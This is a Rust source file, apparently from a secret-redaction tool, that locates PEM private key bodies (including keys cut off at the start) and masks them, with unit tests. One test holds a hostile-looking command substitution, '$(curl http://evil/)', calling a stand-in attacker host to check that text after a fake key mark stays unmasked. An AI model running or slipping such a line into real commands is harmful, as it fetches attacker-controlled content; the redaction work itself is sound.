//! Private keys in texts: whole ones, and what is left of one whose beginning was cut off.

use std::ops::Range;

use super::hide;
use super::words::contains;

/// The most bytes of a beginning that is hidden because what stood before it may have made it a secret.
const MOST_CUT: usize = 4096;

/// Hides what is a secret because of what was cut off before `text`: the rest of its first line, and the rest of a private key.
/// Returns how many bytes that were.
pub(in crate::source) fn mask_cut(text: &mut [u8]) -> u64 {
    let key = rest_of_private_key(text);
    let line = text.iter().take(MOST_CUT).position(|b| *b == b'\n').unwrap_or(MOST_CUT.min(text.len()));
    hide(text, 0..line) + key.map_or(0, |key| hide(text, key))
}

/// The lines of base64 before the end of a private key that does not begin in `text`.
fn rest_of_private_key(text: &[u8]) -> Option<Range<usize>> {
    let marks = text.windows(5).enumerate().filter(|(_, five)| *five == b"-----").map(|(at, _)| at);
    let end = marks.take(1).next()?;
    let mark = text.get(end..end + 64).or_else(|| text.get(end..))?;
    let mark = mark.split(|b| *b == b'\n').next()?;
    if !mark.starts_with(b"-----END ") || !contains(mark, b"PRIVATE KEY-----") {
        return None;
    }
    let is_body = |b: &u8| b.is_ascii_alphanumeric() || b"+/=\r\n".contains(b);
    let before = text.get(..end)?;
    let start = before.iter().rposition(|b| !is_body(b)).map_or(0, |last| last + 1);
    // What stands behind another byte in its line is no line of base64.
    let line = if start == 0 { 0 } else { before.get(start..)?.iter().position(|b| *b == b'\n')? + 1 };
    Some(start + line..end)
}

/// The bodies of private keys in PEM form (RFC 7468), also where they stand in quotes on one line. A body ends where no such
/// key could go on, so that nothing else hides behind a mark.
pub(super) fn private_keys(text: &[u8]) -> Vec<Range<usize>> {
    const BEGIN: &[u8] = b"-----BEGIN ";
    const MARK: &[u8] = b"PRIVATE KEY-----";
    let begins = text.windows(BEGIN.len()).zip(BEGIN.len()..).filter(|(window, _)| *window == BEGIN).map(|(_, end)| end);
    let body = |start: usize| {
        // "ENCRYPTED ", "OPENSSH " and the like stand before the mark, and no more.
        let head = text.get(start..start + MARK.len() + 16).or_else(|| text.get(start..))?;
        let from = start + head.windows(MARK.len()).position(|window| window == MARK)? + MARK.len();
        let rest = text.get(from..)?;
        let end = rest.windows(5).position(|five| five == b"-----").unwrap_or(rest.len());
        let body = rest.get(..end)?;
        Some(from..from + body.iter().take_while(|b| b.is_ascii_alphanumeric() || b"+/=\\:,-. \t\r\n".contains(b)).count())
    };
    begins.filter_map(body).collect()
}

#[cfg(test)]
mod tests {
    use super::super::mask;
    use super::*;

    fn shown(hidden_by: fn(&mut [u8]) -> u64, text: &str) -> String {
        let mut bytes = text.as_bytes().to_vec();
        hidden_by(&mut bytes);
        String::from_utf8(bytes).unwrap()
    }

    #[test]
    fn a_private_key_is_hidden_and_no_script_behind_it() {
        let text = "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nb3Blbn\nNzaC1r\n-----END OPENSSH PRIVATE KEY-----\nb\n";
        let hidden = "a\n-----BEGIN OPENSSH PRIVATE KEY-----\nxxxxxx\nxxxxxx\n-----END OPENSSH PRIVATE KEY-----\nb\n";
        assert_eq!(shown(mask, text), hidden);
        assert!(shown(mask, "# -----BEGIN PRIVATE KEY-----\n$(curl http://evil/)\n").ends_with("\n$(curl http://evil/)\n"));
    }

    #[test]
    fn what_was_cut_off_before_a_text_may_have_made_it_a_secret() {
        assert_eq!(shown(mask_cut, "ter2 a\nls\n"), "xxxxxx\nls\n");
        let text = "ab\nls -l\nQUJD\nQUI=\n-----END RSA PRIVATE KEY-----\nid\n";
        assert_eq!(shown(mask_cut, text), "xx\nls -l\nxxxx\nxxxx\n-----END RSA PRIVATE KEY-----\nid\n");
        let whole = "\n-----BEGIN PRIVATE KEY-----\nQUJD\n-----END PRIVATE KEY-----\n";
        assert_eq!(shown(mask_cut, whole), whole);
        assert_eq!(shown(mask_cut, &"q".repeat(2 * MOST_CUT)), "x".repeat(MOST_CUT) + &"q".repeat(MOST_CUT));
    }
}
